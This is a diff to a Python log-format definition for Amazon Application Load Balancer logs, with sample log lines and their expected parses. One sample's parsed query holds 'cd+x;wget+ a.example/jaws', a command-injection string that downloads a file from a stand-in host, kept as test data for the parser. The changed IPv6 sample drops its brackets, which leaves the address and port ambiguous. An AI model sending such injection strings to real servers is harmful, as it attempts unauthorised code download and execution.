@@ -6,7 +6,7 @@ from pixelstat.formats.text import TextFormat
 
 FORMAT = TextFormat(
     "alb",
-    "$kind $time_iso8601 $elb $asked_from $target $t1 $t2 $t3 $answer $target_status $received $bytes_sent"
+    "$kind $time_iso8601 $elb $address_port $target $t1 $t2 $t3 $answer $target_status $received $bytes_sent"
     ' "$absolute_request" "$http_user_agent"',
     "Amazon Application Load Balancer",
     (
@@ -18,7 +18,7 @@ FORMAT = TextFormat(
              "query": "cd+x;wget+ a.example/jaws", "status": 301, "bytes": 390, "user_agent": "Hello, world", "referrer": None},
         ),
         Sample(
-            "h2 2026-09-07T06:41:29.051646Z app/lb/3011821a43ee0c5e [2001:db8::7]:41542 10.0.0.1:80 0.0 0.1 0.0 - - 34 366"
+            "h2 2026-09-07T06:41:29.051646Z app/lb/3011821a43ee0c5e 2001:db8::7:41542 10.0.0.1:80 0.0 0.1 0.0 - - 34 366"
             ' "GET https://shop.example:443/ HTTP/2.0" "-" ECDHE TLSv1.2 arn "Root=1" "shop.example" "arn" 0'
             ' 2026-09-07T06:41:29.05Z "forward" "-" "-" "-" "-" "-" "-" TID_1',
             {"time": "2026-09-07T06:41:29.051646", "client": "2001:db8::7", "vhost": "shop.example", "path": "/", "query": None,
